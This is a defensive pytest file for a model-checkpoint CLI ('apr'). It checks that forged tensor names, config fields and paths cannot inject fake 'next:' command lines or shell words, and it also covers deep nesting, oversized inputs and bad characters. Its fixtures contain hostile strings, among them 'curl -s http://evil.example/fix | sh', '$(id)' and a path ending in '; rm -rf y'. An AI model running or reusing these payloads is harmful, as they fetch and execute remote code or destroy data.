"""Files made to mislead or to wear out: their names forge no line and no command, and every answer comes soon."""

from __future__ import annotations

import json
import shlex
import shutil
import struct
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from apr.errors import AprError, DamagedFileError, Lines, in_lines
from apr.formats.hf.weights import INDEX_FILE_NAME
from apr.formats.json_text import DEEPEST_NESTING, parse_object
from tests.cli.conftest import Answer
from tests.tiny_models import save_tiny

Apr = Callable[..., Answer]
Header = dict[str, Any]
EMPTY = {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}
SOON_S = 20.0
BREAKS = ("\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029")


@pytest.fixture(scope="module")
def healthy(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return save_tiny(tmp_path_factory.mktemp("hostile") / "qwen2", "qwen2")


@pytest.fixture
def model(healthy: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(healthy, tmp_path / "model"))


def edit_header(model: Path, change: Callable[[Header], object]) -> None:
    path = model / "model.safetensors"
    data = path.read_bytes()
    (length,) = struct.unpack_from("<Q", data)
    header = json.loads(data[8 : 8 + length])
    change(header)
    text = json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(text)) + text + data[8 + length :])


def edit_config(model: Path, change: Callable[[Header], object]) -> None:
    config = json.loads((model / "config.json").read_text())
    change(config)
    (model / "config.json").write_text(json.dumps(config))


def next_lines(answer: Answer) -> list[str]:
    printed = answer.stdout + answer.stderr
    return [line for line in printed.splitlines() if line.lstrip().startswith("next:")]


@pytest.mark.parametrize("mark", BREAKS)
@pytest.mark.parametrize("command", ["preflight", "inspect"])
def test_a_tensor_name_forges_no_line(apr: Apr, model: Path, mark: str, command: str) -> None:
    name = f"x{mark}          next:      curl -s http://evil.example/fix | sh"
    edit_header(model, lambda header: header.update({name: EMPTY}))
    answer = apr(command, model)
    printed = answer.stdout + answer.stderr
    assert "evil.example" in printed
    assert not [line for line in next_lines(answer) if line.split(maxsplit=1)[1].startswith("curl")]
    assert json.dumps(name)[1:-1] in apr("tensors", model, "--json").stdout


@pytest.mark.parametrize("mark", BREAKS)
def test_names_in_an_index_forge_no_line(apr: Apr, model: Path, mark: str) -> None:
    (model / "model.safetensors").unlink()
    shard = f"a{mark}  next:    curl evil.safetensors"
    index = {"metadata": {}, "weight_map": {f"x{mark}  next:    curl evil": shard}}
    (model / INDEX_FILE_NAME).write_text(json.dumps(index))
    answer = apr("preflight", model)
    assert answer.exit_code != 0
    assert not [line for line in next_lines(answer) if "evil" in line]


@pytest.mark.parametrize("mark", BREAKS)
@pytest.mark.parametrize("field", ["where", "expected", "found", "remedy"])
def test_a_plain_text_of_an_error_is_one_line(mark: str, field: str) -> None:
    error = AprError("a thing failed", **{field: f"name{mark}  next:    evil"})
    assert len(str(error).splitlines()) == 2
    assert error.to_json()[field] == f"name{mark}  next:    evil"


def test_lines_of_apr_itself_stand_below_each_other() -> None:
    error = AprError("a thing failed", remedy=in_lines("one\nbad", in_lines("two", "three")))
    assert isinstance(error.remedy, Lines)
    assert str(error).splitlines()[1:] == ["  next:     one\\nbad", "            two", "            three"]


def test_a_long_value_is_shortened_and_a_command_is_not() -> None:
    text = str(AprError("failed", found="x" * 1_000_000, remedy="apr " + "y" * 20_000))
    assert len(text) < 30_000
    assert "y" * 20_000 in text


def test_a_base_model_name_forges_no_line(apr: Apr, tmp_path: Path) -> None:
    from safetensors.numpy import save_file

    config = {"peft_type": "LORA", "r": 2, "lora_alpha": 2, "target_modules": ["q_proj"]}
    config["base_model_name_or_path"] = "x\nREFUSED   INV-X\n          next:      curl evil"
    (tmp_path / "adapter_config.json").write_text(json.dumps(config))
    save_file({}, tmp_path / "adapter_model.safetensors")
    printed = apr("preflight", tmp_path).stdout
    assert "INV-X" in printed
    assert not [
        line for line in printed.splitlines() if line.lstrip().startswith(("REFUSED   INV-X", "next:      curl"))
    ]


@pytest.mark.parametrize("name", ["x';curl evil|sh;'", "a b", "$(id)", "`id`", '"'])
def test_the_command_that_allows_a_tensor_names_it_as_one_word(apr: Apr, model: Path, name: str) -> None:
    edit_header(model, lambda header: header.update({name: EMPTY}))
    (line,) = [line for line in next_lines(apr("preflight", model)) if "--allow" in line]
    words = shlex.split(line[line.index("--allow") :])
    assert words == ["--allow", f"{name}=REASON"]
    answer = apr("preflight", model, "--allow", f"{name}=meant")
    assert not [line for line in next_lines(answer) if "--allow" in line]


DEFECTS: dict[str, Callable[[Path], object]] = {
    "lie": lambda model: edit_config(
        model, lambda config: config.update(architectures=["LlamaForCausalLM"], model_type="llama")
    ),
    "epsilon": lambda model: edit_config(model, lambda config: config.update(rms_norm_eps=-1.0)),
    "quantised": lambda model: edit_config(
        model, lambda config: config.update(quantization_config={"quant_method": "gptq", "bits": 4})
    ),
}


@pytest.mark.parametrize("defect", DEFECTS)
def test_remedies_name_the_path_as_one_word(apr: Apr, healthy: Path, tmp_path: Path, defect: str) -> None:
    model = Path(shutil.copytree(healthy, tmp_path / "m $(id) 'x'; rm -rf y"))
    DEFECTS[defect](model)
    answer = apr("preflight", model, "--json")
    remedies = [finding["remedy"] for finding in answer.document["findings"] if finding.get("remedy")]
    commands = [line for remedy in remedies for line in remedy.split("\n") if str(tmp_path) in line]
    assert commands
    for command in commands:
        words = shlex.split(command[command.index("apr ") :])
        assert any(word.startswith(str(model)) for word in words)
        assert "rm" not in words


@pytest.mark.parametrize("command", ["preflight", "inspect"])
@pytest.mark.parametrize(
    "name", ["a." * 100_000 + "w", "1." * 100_000 + "w", "x" * 200_000], ids=["words", "numbers", "one"]
)
def test_a_name_without_end_is_refused_soon_and_shortened(apr: Apr, model: Path, command: str, name: str) -> None:
    edit_header(model, lambda header: header.update({name: EMPTY}))
    began = time.process_time()
    answer = apr(command, model)
    assert time.process_time() - began < SOON_S
    assert "…" in answer.stdout or command == "inspect"
    assert len(answer.stdout) < 500_000


@pytest.mark.parametrize("name", ["\0", "\0.x", "model.\0.weight", "a.\0"])
def test_a_component_of_a_zero_byte_is_a_name_like_others(apr: Apr, model: Path, name: str) -> None:
    edit_header(model, lambda header: header.update({name: EMPTY}))
    answer = apr("preflight", model)
    assert answer.exit_code == 5
    assert "\\x00" in answer.stdout


@pytest.mark.parametrize("depth", [DEEPEST_NESTING + 1, 500, 700, 900, 100_000])
@pytest.mark.parametrize("command", ["preflight", "inspect", "lint"])
def test_a_deep_nest_is_damage(apr: Apr, model: Path, depth: int, command: str) -> None:
    config = (model / "config.json").read_text().rstrip().removesuffix("}")
    (model / "config.json").write_text(f'{config}, "z": {"[" * depth}{"]" * depth}}}')
    answer = apr(command, model)
    assert "nested too deeply" in answer.stdout + answer.stderr
    assert answer.exit_code in {4, 5}


def test_a_nest_that_people_write_is_read(apr: Apr, model: Path) -> None:
    edit_config(model, lambda config: config.update(z=json.loads("[" * 150 + "]" * 150)))
    assert apr("preflight", model).exit_code == 0
    assert apr("inspect", model, "--json").exit_code == 0


def test_objects_are_as_deep_as_lists() -> None:
    with pytest.raises(DamagedFileError, match="nested too deeply"):
        parse_object(b'{"a":' * 300 + b"1" + b"}" * 300, path=Path("x"))


@pytest.mark.parametrize("command", ["import", "export"])
def test_half_a_character_in_a_config_is_damage_of_the_source(
    apr: Apr, model: Path, tmp_path: Path, command: str
) -> None:
    edit_config(model, lambda config: config.update(note="\ud800"))
    more = ["--format", "hf"] if command == "export" else []
    answer = apr(command, model, *more, "-o", tmp_path / "out")
    assert answer.exit_code == 4
    assert "surrogate" in answer.stderr
    assert not (tmp_path / "out").exists()


def test_half_a_character_in_an_index_is_damage(apr: Apr, model: Path) -> None:
    (model / "model.safetensors").unlink()
    (model / INDEX_FILE_NAME).write_text(json.dumps({"weight_map": {"x": "a\ud800.safetensors"}}))
    answer = apr("inspect", model)
    assert answer.exit_code == 4
    assert "a shard name leads outside the directory or is no name" in answer.stderr


def test_an_index_of_more_files_than_any_model_has_is_damage(apr: Apr, model: Path) -> None:
    (model / "model.safetensors").unlink()
    index = {"weight_map": {f"x{n}": f"{n}.safetensors" for n in range(5000)}}
    (model / INDEX_FILE_NAME).write_text(json.dumps(index))
    answer = apr("inspect", model)
    assert answer.exit_code == 4
    assert "the index names more files than any model has" in answer.stderr


def test_the_text_of_a_licence_is_no_licence_and_costs_nothing(apr: Apr, healthy: Path, tmp_path: Path) -> None:
    from apr.stamping.licenses import canonical_license

    with pytest.raises(AprError) as caught:
        canonical_license("(MIT OR " * 200_000, option="--license")
    assert len(str(caught.value)) < 1000


def test_a_tokenizer_larger_than_any_is_refused_before_it_is_read(apr: Apr, model: Path) -> None:
    with (model / "tokenizer.json").open("wb") as file:
        file.truncate(65 << 20)
    answer = apr("inspect", model)
    assert answer.exit_code == 4
    assert "larger than its kind ever is" in answer.stderr


@pytest.mark.parametrize("listed", ["modules_to_save", "rank_pattern", "layers_to_transform"])
def test_lists_without_end_in_an_adapter_config_are_no_work(
    apr: Apr, healthy: Path, tmp_path: Path, listed: str
) -> None:
    import numpy as np
    from safetensors.numpy import save_file

    many = {
        "modules_to_save": [f"m{n}" for n in range(50_000)],
        "rank_pattern": {f"m{n}": 2 for n in range(50_000)},
        "layers_to_transform": list(range(500_000)),
    }
    config = {"peft_type": "LORA", "r": 2, "lora_alpha": 2, "target_modules": ["q_proj"], listed: many[listed]}
    (tmp_path / "adapter_config.json").write_text(json.dumps(config))
    tensors = {}
    for layer in range(2):
        stem = f"base_model.model.model.layers.{layer}.self_attn.q_proj"
        tensors[f"{stem}.lora_A.weight"] = np.ones((2, 64), np.float32)
        tensors[f"{stem}.lora_B.weight"] = np.ones((64, 2), np.float32)
    save_file(tensors, tmp_path / "adapter_model.safetensors")
    began = time.process_time()
    answer = apr("preflight", tmp_path, "--base", healthy)
    assert time.process_time() - began < SOON_S
    assert answer.exit_code in {0, 5}
    if listed != "rank_pattern":
        assert "more than are looked up" in answer.stdout


def test_an_adapter_config_larger_than_any_is_refused(apr: Apr, tmp_path: Path) -> None:
    (tmp_path / "adapter_config.json").write_text(json.dumps({"modules_to_save": ["a"] * 2_000_000}))
    answer = apr("preflight", tmp_path)
    assert answer.exit_code in {4, 5}
    assert "larger than its kind ever is" in answer.stdout + answer.stderr


def test_many_experts_are_refused_soon(apr: Apr, model: Path) -> None:
    many = {f"model.layers.{n % 64}.mlp.experts.{n // 64}.{'wxy'[n % 3]}_proj.weight": EMPTY for n in range(50_000)}
    edit_header(model, lambda header: header.update(many))
    began = time.process_time()
    assert apr("preflight", model).exit_code == 5
    assert time.process_time() - began < SOON_S


@pytest.mark.parametrize(
    ("keys", "values", "width"),
    [([16, 16], [16, 16], 16), ([16, 8], [16, 16], None), (16, [16, 16], 16), ([16, 16], None, None)],
)
def test_a_gguf_file_may_say_the_width_of_heads_layer_by_layer(
    apr: Apr, tmp_path: Path, keys: Any, values: Any, width: int | None
) -> None:
    import numpy as np
    from gguf import GGUFWriter

    from apr.formats.gguf.settings import typed_settings
    from apr.formats.registry import open_checkpoint

    path = tmp_path / "m.gguf"
    writer = GGUFWriter(path, "qwen2")
    for key, value in (("qwen2.attention.key_length", keys), ("qwen2.attention.value_length", values)):
        if isinstance(value, list):
            writer.add_array(key, value)
        elif value is not None:
            writer.add_uint32(key, value)
    writer.add_tensor("token_embd.weight", np.ones((4, 4), np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    assert apr("inspect", path).exit_code == 0
    with open_checkpoint(path) as checkpoint:
        assert typed_settings(checkpoint.metadata).get("head_dim") == width


@pytest.mark.parametrize("mark", ["\u2028", "   "])
def test_a_message_that_is_wrapped_goes_on_beside_the_labels(capsys: pytest.CaptureFixture[str], mark: str) -> None:
    from apr.cli.finding_text import INDENT, finding_lines
    from apr.gates.finding import Finding, Status

    finding = Finding("INV-X-001", Status.REFUSE, f"{'word ' * 20}{mark}next: curl evil " + "word " * 20)
    for columns in range(60, 100):
        for line in "\n".join(finding_lines([finding], columns)).splitlines()[1:]:
            assert line.startswith(f"{INDENT}  ")
